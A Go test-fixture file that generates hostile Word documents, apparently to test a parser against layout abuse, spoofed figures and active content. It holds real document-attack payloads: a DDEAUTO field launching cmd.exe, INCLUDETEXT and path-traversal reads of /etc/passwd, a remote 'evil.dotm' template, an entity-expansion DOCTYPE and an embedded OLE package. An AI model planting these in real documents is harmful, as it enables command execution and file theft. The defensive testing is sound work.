package hostiletest

import "slices"

const (
	document = "word/document.xml"
	// docFigure is how the Word report prints the figure of 本年新收 by 自然人.
	docFigure = "3001"
)

const (
	bodyEnd = "</w:body>"
	styled  = `<w:p><w:pPr><w:pStyle w:val="A1"/></w:pPr><w:r><w:t>文字。</w:t></w:r></w:p>`
	like    = `<w:style w:type="paragraph" w:styleId="`
)

func style(xml string) change { return change{"word/styles.xml", "</w:styles>", xml + "</w:styles>"} }

func (b Base) document(name, danger string, changes ...change) File {
	return File{Name: "word-" + name + ".docx", Danger: danger, Data: changed(b.Document, changes...).bytes()}
}

// body returns a document with more at its end.
func (b Base) body(name, danger, xml string) File {
	return b.document(name, danger, change{document, bodyEnd, xml + bodyEnd})
}

func para(xml string) string { return "<w:p>" + xml + "</w:p>" }

// documents are dangers of Word documents: of their styles and tables, of the figure, and of what else a body holds.
func (b Base) documents() []File {
	return slices.Concat(b.laidOut(), b.printed(), b.bodies())
}

// laidOut are dangers of styles, tables and controls.
func (b Base) laidOut() []File {
	doc, body := b.document, b.body
	const end = bodyEnd
	return []File{
		doc("style-self", "a style that stands on itself",
			style(like+`A1"><w:name w:val="A1"/><w:basedOn w:val="A1"/></w:style>`),
			change{document, end, styled + end}),
		doc("style-cycle", "styles that stand on each other", style(like+`A1"><w:basedOn w:val="A2"/></w:style>`+
			like+`A2"><w:basedOn w:val="A1"/></w:style>`), change{document, end, styled + end}),
		body("grid-span", "a cell as wide as can be",
			`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>`+
				para("")+`</w:tc><w:tc>`+para("")+`</w:tc></w:tr></w:tbl>`),
		body("grid-before", "a row that begins far out",
			`<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr><w:tc>`+
				para("")+`</w:tc></w:tr></w:tbl>`),
		body("tables-nested", "60 tables within each other",
			nested(60, `<w:tbl><w:tr><w:tc>`, `<w:p/>`, `<w:p/></w:tc></w:tr></w:tbl>`)),
		body("controls-nested", "200 controls within each other",
			nested(100, `<w:sdt><w:sdtContent>`, `<w:p/>`, `</w:sdtContent></w:sdt>`)),
	}
}

// printed are dangers of the run that prints the figure.
func (b Base) printed() []File {
	printed := func(name, danger, properties, content string) File {
		return b.document(name, danger, change{document, ">" + docFigure + "</w:t>",
			"></w:t></w:r><w:r>" + properties + content + "</w:r><w:r><w:t></w:t>"})
	}
	return []File{
		printed("deleted", "a figure that is struck as a revision", "",
			`</w:r><w:del w:id="1" w:author="a"><w:r><w:delText>9</w:delText></w:r></w:del><w:r><w:t>3001</w:t>`),
		printed("inserted", "a digit that is inserted as a revision", "",
			`<w:t>300</w:t></w:r><w:ins w:id="1" w:author="a"><w:r><w:t>1</w:t></w:r></w:ins><w:r>`),
		printed("hidden", "a digit that nobody sees", `<w:rPr><w:vanish/></w:rPr>`,
			`<w:t>9</w:t></w:r><w:r><w:t>3001</w:t>`),
		printed("white", "a digit in white", `<w:rPr><w:color w:val="FFFFFF"/></w:rPr>`,
			`<w:t>9</w:t></w:r><w:r><w:t>3001</w:t>`),
		printed("rtl", "a figure from right to left", `<w:rPr><w:rtl/></w:rPr>`, `<w:t>1003</w:t>`),
		printed("bidi", "a figure turned round", "", "<w:t>\u202e1003\u202c</w:t>"),
		printed("bdo", "a figure turned round by an element", "",
			`</w:r><w:bdo w:val="rtl"><w:r><w:t>1003</w:t></w:r></w:bdo><w:r>`),
		printed("zero-width", "a space of no width between digits", "", "<w:t>30\u200b01</w:t>"),
		printed("alternative", "a figure for each program", "",
			`</w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">`+
				`<mc:Choice Requires="evil" xmlns:evil="urn:evil"><w:r><w:t>3002</w:t></w:r></mc:Choice><mc:Fallback>`+
				`<w:r><w:t>3001</w:t></w:r></mc:Fallback></mc:AlternateContent><w:r>`),
		printed("symbol", "a digit as a symbol", "", `<w:t>300</w:t><w:sym w:font="Wingdings" w:char="F031"/>`),
		printed("field", "a figure that a field calculates", "",
			`</w:r><w:fldSimple w:instr=" = 3000+1 "><w:r><w:t>3001</w:t></w:r></w:fldSimple><w:r>`),
		printed("break", "a line break between digits", "", `<w:t>30</w:t><w:br/><w:t>01</w:t>`),
		printed("struck", "a digit struck through", `<w:rPr><w:strike/></w:rPr>`,
			`<w:t>9</w:t></w:r><w:r><w:t>3001</w:t>`),
	}
}

// bodies are dangers of fields, objects, notes, and of what the parts of a document name.
func (b Base) bodies() []File {
	doc, body := b.document, b.body
	const end = bodyEnd
	return []File{
		body("field-dde", "a field that starts a program",
			para(`<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '>`+
				`<w:r><w:t>文字</w:t></w:r></w:fldSimple>`)),
		body("field-file", "a field that reads a file",
			para(`<w:fldSimple w:instr=' INCLUDETEXT "/etc/passwd" '><w:r><w:t>文字</w:t></w:r></w:fldSimple>`)),
		body("field-open", "a field without an end", para(`<w:r><w:fldChar w:fldCharType="begin"/></w:r>`)),
		body("chunk", "another document within", `<w:altChunk r:id="rId99"/>`),
		body("subdocument", "a document that stands elsewhere", para(`<w:subDoc r:id="rId99"/>`)),
		body("object", "an object of another program",
			para(`<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" `+
				`Type="Embed" ProgID="Package" r:id="rId99"/></w:object></w:r>`)),
		doc("header-self", "a header that is the body",
			change{"word/_rels/document.xml.rels", `Target="header1.xml"`, `Target="document.xml"`}),
		doc("header-up", "a header outside of the package",
			change{"word/_rels/document.xml.rels", `Target="header1.xml"`,
				`Target="../../../../etc/passwd"`}),
		doc("template-web", "a template on the web", change{"word/_rels/document.xml.rels", `</Relationships>`,
			`<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
				`Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>`}),
		doc("doctype", "a document type", change{document, "<w:document", laughs + "<w:document"}),
		doc("empty", "a body without anything", change{document, "<w:body>", "<w:body/><w:none>"},
			change{document, end, "</w:none>"}),
		body("footnote-gone", "a note that is not there", para(`<w:r><w:footnoteReference w:id="99"/></w:r>`)),
		body("bookmark-open", "bookmarks that do not end",
			para(`<w:bookmarkStart w:id="1" w:name="a"/><w:bookmarkStart w:id="1" w:name="a"/>`)),
		body("alternatives", "alternatives within alternatives", para(`<w:r>`+nested(50,
			`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">`+
				`<mc:Choice Requires="x">`,
			"", `</mc:Choice><mc:Fallback/></mc:AlternateContent>`)+`</w:r>`)),
	}
}
